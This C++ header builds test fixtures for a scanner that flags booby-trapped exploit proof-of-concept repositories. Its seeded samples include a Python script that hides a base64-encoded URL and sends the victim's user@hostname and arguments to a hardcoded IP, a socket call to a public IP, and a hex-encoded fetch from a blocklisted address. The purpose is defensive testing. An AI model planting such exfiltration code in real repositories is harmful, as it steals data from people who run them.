// Builders for the on-disk fixture corpora used by unit and acceptance
// tests: a 12-repo corpus with 4 seeded-malicious repositories, its intel
// fixture directory, and a blocklist directory.
#pragma once

#include <filesystem>
#include <fstream>
#include <set>
#include <string>
#include <vector>

#include "pocscan/sha256.hpp"

namespace fixtures {

namespace fs = std::filesystem;

inline void put(const fs::path& path, const std::string& content) {
    fs::create_directories(path.parent_path());
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << content;
}

// The exfiltration-style script whose base64 literal decodes to
// "http://54.184.20.69/poc2.php".
inline std::string exfil_script() {
    return "import base64, requests, sys, os, getpass, time\n"
           "time.sleep(3)\n"
           "lhost = os.uname()[1]\n"
           "command = getpass.getuser() + '@' + (lhost)\n"
           "args = ' '.join(sys.argv[1:])\n"
           "ErrorMsg = 'Connection Terminated: (Timeout)'\n"
           "URL = base64.b64decode('aHR0cDovLzU0LjE4NC4yMC42OS9wb2MyLnBocA==')\n"
           "PARAMS = {'host':command, 'args':args, 'cve':Bug}\n"
           "r = requests.get(url = URL, params = PARAMS)\n"
           "welcome = r.content\n";
}

struct SeededCorpus {
    fs::path corpus_dir;
    fs::path intel_dir;
    fs::path blocklist_dir;
    std::set<std::string> malicious_repo_ids;  // the seed manifest
    std::string trojan_sha256;
};

// 12 repositories, 4 seeded malicious:
//   seed-ip      - public IP 45.77.30.10 in code, flagged by the scan service
//   seed-binary  - MZ executable whose hash the scan service labels cobaltstrike
//   seed-hex     - \x payload decoding to a URL on blocklisted 91.92.109.43
//   seed-base64  - exfil script; 54.184.20.69 has reputation reports
// plus 8 benign repos exercising the filters (private IPs, comment/doc
// context, short base64, IP-free hex, clean binary).
inline SeededCorpus build_seeded_corpus(const fs::path& root) {
    SeededCorpus sc;
    sc.corpus_dir = root / "corpus";
    sc.intel_dir = root / "intel";
    sc.blocklist_dir = root / "blocklists";
    sc.malicious_repo_ids = {"seed-ip", "seed-binary", "seed-hex", "seed-base64"};

    const fs::path& c = sc.corpus_dir;

    put(c / "seed-ip" / "README.md", "Exploit for CVE-2019-0708 (BlueKeep).\n");
    put(c / "seed-ip" / "exploit.py",
        "import socket\n"
        "s = socket.socket()\n"
        "s.connect(('45.77.30.10', 4444))\n"
        "s.send(payload)\n");

    put(c / "seed-binary" / "README.md", "PoC for CVE-2021-34527.\n");
    std::string trojan_bytes = std::string("MZ\x90", 3) + std::string(1, '\0') +
                               "this is not a real portable executable";
    put(c / "seed-binary" / "loader.exe", trojan_bytes);
    put(c / "seed-binary" / "run.sh", "#!/bin/sh\n./loader.exe\n");
    sc.trojan_sha256 = pocscan::sha256_hex(trojan_bytes);

    put(c / "seed-hex" / "README.md", "CVE-2022-22965 Spring4Shell PoC.\n");
    // "\x68..." decodes to "GET http://91.92.109.43/s"
    {
        std::string hex;
        static const char* digits = "0123456789abcdef";
        for (unsigned char ch : std::string("GET http://91.92.109.43/s")) {
            hex += "\\x";
            hex.push_back(digits[ch >> 4]);
            hex.push_back(digits[ch & 0xf]);
        }
        put(c / "seed-hex" / "stage.py", "payload = b'" + hex + "'\nsend(payload)\n");
    }

    put(c / "seed-base64" / "README.md", "PoC exploit for CVE-2020-0796.\n");
    put(c / "seed-base64" / "poc.py", exfil_script());

    put(c / "benign-01" / "README.md", "Scanner for CVE-2021-44228 (log4shell).\n");
    put(c / "benign-01" / "scan.py",
        "# test against 10.0.0.5 internal lab host\n"
        "target = input('host: ')\nprobe(target)\n");
    put(c / "benign-02" / "README.md", "CVE-2019-11510 Pulse Secure PoC.\n");
    put(c / "benign-02" / "poc.sh",
        "#!/bin/sh\n# usage: poc.sh <host>\n# example: poc.sh 8.8.8.8\n"
        "curl -sk \"https://$1/dana-na/\"\n");
    put(c / "benign-03" / "README.md", "CVE-2017-0144 EternalBlue checker.\n");
    put(c / "benign-03" / "check.py",
        "lhost = '192.168.1.77'\nrhost = sys.argv[1]\nsmb_check(rhost, lhost)\n");
    put(c / "benign-04" / "README.md", "CVE-2018-7600 Drupalgeddon2 notes.\n");
    put(c / "benign-04" / "notes.txt", "short token aGVsbG8= is not a payload\n");
    put(c / "benign-05" / "README.md", "CVE-2014-0160 Heartbleed demo.\n");
    put(c / "benign-05" / "demo.c",
        "/* 127.0.0.1 loopback only */\n"
        "int main(void) { const char *m = \"\\x68\\x74\\x74\\x70\"; return probe(m); }\n");
    put(c / "benign-06" / "README.md", "CVE-2016-5195 DirtyCow PoC.\n");
    put(c / "benign-06" / "dirty.c", "int main(void) { return race(); }\n");
    put(c / "benign-07" / "README.md", "CVE-2020-1472 Zerologon tester.\n");
    put(c / "benign-07" / "test.py", "def test(dc):\n    return netlogon_bind(dc)\n");
    put(c / "benign-08" / "README.md", "CVE-2015-1635 HTTP.sys checker.\n");
    put(c / "benign-08" / "tool.exe", std::string("MZ") + "harmless test binary");
    put(c / "benign-08" / "range.py", "send_range_header(host)\n");

    put(sc.blocklist_dir / "seeded.netset",
        "# seeded blocklist for tests\n"
        "91.92.109.0/24\n");

    put(sc.intel_dir / "scan-service" / "45.77.30.10.json",
        R"({"malicious": true, "detection_count": 3, "labels": ["malware"]})");
    put(sc.intel_dir / "scan-service" / (sc.trojan_sha256 + ".json"),
        R"({"malicious": true, "detection_count": 45, "labels": ["CobaltStrike", "trojan"]})");
    put(sc.intel_dir / "reputation-db" / "54.184.20.69.json",
        R"({"malicious": true, "report_count": 12})");

    return sc;
}

} // namespace fixtures
